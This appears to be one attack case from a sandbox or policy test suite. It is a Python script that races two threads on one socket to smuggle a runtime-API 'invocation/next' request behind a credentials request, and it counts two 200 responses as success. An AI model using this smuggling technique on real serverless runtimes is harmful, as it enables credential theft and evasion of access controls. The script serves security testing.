# class: lambda
# rule: runtime_api
# success: two threads send at once, so that the next event is taken as part of a permitted request
# proof: next
# needs: snapshot
# timeout: 60
import socket
import threading
import time

from attack import API, attempt

HEAD = b"GET /2021-04-23/credentials HTTP/1.1\r\nHost: x\r\nAuthorization: t\r\n"
NEXT = b"A: b\r\n\r\nGET /2018-06-01/runtime/invocation/next HTTP/1.1\r\nHost: x\r\n\r\n"


@attempt
def take():
    end = time.monotonic() + 12
    taken = []
    while not taken and time.monotonic() < end:
        out = socket.create_connection(API, 3)
        out.settimeout(0.2)
        ready = threading.Barrier(3)

        def say(*pieces, out=out, ready=ready):
            ready.wait()
            for piece in pieces:
                try:
                    out.sendall(piece)
                except OSError:
                    return

        threads = [
            threading.Thread(target=say, args=(HEAD[:20], HEAD[20:], NEXT)),
            threading.Thread(target=say, args=(b"\r\n", NEXT[8:])),
        ]
        for thread in threads:
            thread.start()
        ready.wait()
        for thread in threads:
            thread.join()
        try:
            heard = out.recv(1000)
            while heard.count(b"HTTP/1.1 200") < 2:
                more = out.recv(1000)
                if not more:
                    break
                heard += more
            taken = [heard] if heard.count(b"HTTP/1.1 200") > 1 else []
        except OSError:
            pass
        out.close()
    return bool(taken)
